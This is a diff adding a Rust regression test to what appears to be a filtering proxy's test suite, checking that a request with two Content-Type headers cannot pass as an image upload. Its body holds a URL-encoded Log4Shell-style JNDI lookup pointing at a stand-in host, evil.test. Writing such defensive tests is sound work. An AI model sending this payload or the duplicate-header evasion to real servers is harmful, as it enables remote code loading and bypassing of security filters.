@@ -328,6 +328,23 @@ async fn an_exploit_in_a_body_is_refused_before_a_backend_hears_of_it() {
 }
 
 #[tokio::test]
+async fn regression_a_body_with_two_types_does_not_pass_as_the_harmless_one() {
+    let origin = echo().await;
+    for (mode, status) in [("enforce", 400), ("shadow", 200)] {
+        let proxy = patched(mode).site(SITE, &origin.backends()).start().await;
+        let body = "name=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D";
+        let types = "Content-Type: image/png\r\nContent-Type: application/x-www-form-urlencoded";
+        let mut wire = proxy.wire(SITE).await;
+        let length = body.len();
+        wire.send(format!(
+            "POST / HTTP/1.1\r\nHost: {SITE}\r\n{types}\r\nContent-Length: {length}\r\n\r\n{body}"
+        ))
+        .await;
+        assert_eq!(wire.reply_to("POST").await.status, status, "{mode}");
+    }
+}
+
+#[tokio::test]
 async fn what_was_read_ahead_arrives_whole() {
     let origin = echo().await;
     let proxy = patched("enforce").site(SITE, &origin.backends()).start().await;
